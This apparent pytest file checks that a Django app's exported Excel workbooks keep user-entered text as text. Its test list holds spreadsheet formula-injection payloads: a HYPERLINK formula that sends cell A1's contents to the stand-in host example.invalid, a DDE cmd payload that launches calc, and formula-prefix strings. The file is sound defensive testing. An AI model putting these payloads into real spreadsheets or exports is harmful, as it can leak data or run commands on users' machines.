"""Every spreadsheet the system writes keeps text as text: nothing typed by a user becomes a formula."""

import io

import pytest
from openpyxl import load_workbook

from imports.services import rejected_workbook
from reports import narrative, printing
from reports.selectors import annual
from tests.factories import MemberFactory

ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_the_annual_report_workbook_holds_no_formula(world):
    for attack in ATTACKS:
        MemberFactory(branch=world.branch_a1, religion=attack)
    report = annual.build(world.province, annual.Span.year(annual.datetime.date.today().year))
    text = narrative.draft(report) + "\n\n" + "\n\n".join(ATTACKS)
    cells = _cells(printing.render_xlsx(report, text))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert set(ATTACKS) <= values  # shown as typed, as text


def test_the_rejected_rows_file_holds_no_formula():
    preview = {
        "headers": {"S": ["Họ và tên", "Tôn giáo"]},
        "rejected": [
            {"sheet": "S", "row": 2 + n, "original": ["Lê Thị A", attack], "problems": []}
            for n, attack in enumerate(ATTACKS)
        ],
    }
    cells = _cells(rejected_workbook(preview))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert set(ATTACKS) <= {cell.value for cell in cells}
